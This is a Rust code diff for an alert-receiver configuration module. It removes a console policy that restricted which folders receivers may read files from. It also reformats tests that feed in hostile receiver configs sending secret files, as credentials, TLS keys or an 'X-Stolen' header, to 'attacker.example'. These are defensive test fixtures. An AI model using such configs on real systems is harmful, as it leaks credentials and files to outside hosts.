@@ -12,9 +12,7 @@
 
 use std::path::{Path, PathBuf};
 
-use serde_saphyr::Spanned;
-
-use super::raw::{RawConsole, RawConsoleFile};
+use super::raw::RawConsoleFile;
 use super::{Config, ConfigError, DeliveryConfig, Environment, Issue, ReceiverConfig};
 use crate::fingerprint::fnv1a;
 
@@ -68,49 +66,6 @@ pub fn console_file(flag: Option<&Path>, delivery: &DeliveryConfig) -> ConsoleFi
                 .into(),
         ),
     }
-}
-
-/// The receivers this console may hold; 100 unless `console.max_receivers` says otherwise.
-pub const DEFAULT_MAX_RECEIVERS: usize = 100;
-
-/// `console:` — what receivers edited in the console may do.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct ConsolePolicy {
-    /// Folders (absolute, as written after resolving against the config file's folder) whose
-    /// files a console receiver may name. Empty: it may name none.
-    pub allowed_file_dirs: Vec<PathBuf>,
-    /// Receivers the console may create at most.
-    pub max_receivers: usize,
-}
-
-impl Default for ConsolePolicy {
-    fn default() -> Self {
-        ConsolePolicy { allowed_file_dirs: Vec::new(), max_receivers: DEFAULT_MAX_RECEIVERS }
-    }
-}
-
-/// Validates `console:`.
-pub(super) fn policy(issues: &mut super::issues::Issues, raw: Option<&Spanned<RawConsole>>) -> ConsolePolicy {
-    let mut policy = ConsolePolicy::default();
-    let Some(spanned) = raw else {
-        return policy;
-    };
-    let at = &spanned.referenced;
-    for (index, dir) in spanned.value.allowed_file_dirs.iter().enumerate() {
-        let field = format!("console.allowed_file_dirs[{index}]");
-        let resolved = issues.resolve(dir);
-        match resolved.canonicalize() {
-            Ok(dir) if dir.is_dir() && dir.parent().is_some() => policy.allowed_file_dirs.push(dir),
-            Ok(_) => issues.add(Some(at), field, format!("{dir:?} is not a folder below the root")),
-            Err(e) => issues.add(Some(at), field, format!("cannot use {}: {e}", resolved.display())),
-        }
-    }
-    match spanned.value.max_receivers {
-        Some(0) => issues.add(Some(at), "console.max_receivers", "must be greater than 0"),
-        Some(n) => policy.max_receivers = n,
-        None => {}
-    }
-    policy
 }
 
 /// The validated console file.
@@ -228,24 +183,34 @@ mod tests {
         let main = main_config("receivers: []\n");
         for (text, field) in [
             (
-                format!("receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {{credentials_file: {secret}}}\n"),
+                format!(
+                    "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {{credentials_file: {secret}}}\n"
+                ),
                 "receivers[0].http_config.authorization.credentials_file",
             ),
             (format!("receivers:\n  - {{name: c, url_file: {secret}}}\n"), "receivers[0].url_file"),
             (
-                format!("receivers:\n  - {{name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {{routing_key_file: {secret}}}}}\n"),
+                format!(
+                    "receivers:\n  - {{name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {{routing_key_file: {secret}}}}}\n"
+                ),
                 "receivers[0].preset_options.routing_key_file",
             ),
             (
-                format!("receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      http_headers:\n        X-Stolen: {{files: [{secret}]}}\n"),
+                format!(
+                    "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      http_headers:\n        X-Stolen: {{files: [{secret}]}}\n"
+                ),
                 "files",
             ),
             (
-                format!("receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config: {{tls_config: {{cert_file: {secret}, key_file: {secret}}}}}\n"),
+                format!(
+                    "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config: {{tls_config: {{cert_file: {secret}, key_file: {secret}}}}}\n"
+                ),
                 "cert_file",
             ),
             (
-                format!("receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {{tls_config: {{ca_file: {secret}}}}}\n"),
+                format!(
+                    "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {{tls_config: {{ca_file: {secret}}}}}\n"
+                ),
                 "ca_file",
             ),
         ] {
@@ -285,7 +250,8 @@ mod tests {
     #[test]
     fn dollar_braces_in_console_values_are_kept_as_written() {
         let main = main_config("receivers: []\n");
-        let text = "receivers:\n  - name: c\n    url: 'http://127.0.0.1:1/'\n    headers:\n      X-Template: ${HOME}-$${X}\n";
+        let text =
+            "receivers:\n  - name: c\n    url: 'http://127.0.0.1:1/'\n    headers:\n      X-Template: ${HOME}-$${X}\n";
         let console = console_from_str(text, Path::new(CONSOLE), &main).unwrap();
         let value = console.receivers[0].endpoint.headers[0].1.to_str().unwrap().to_owned();
         assert_eq!(value, "${HOME}-$${X}");
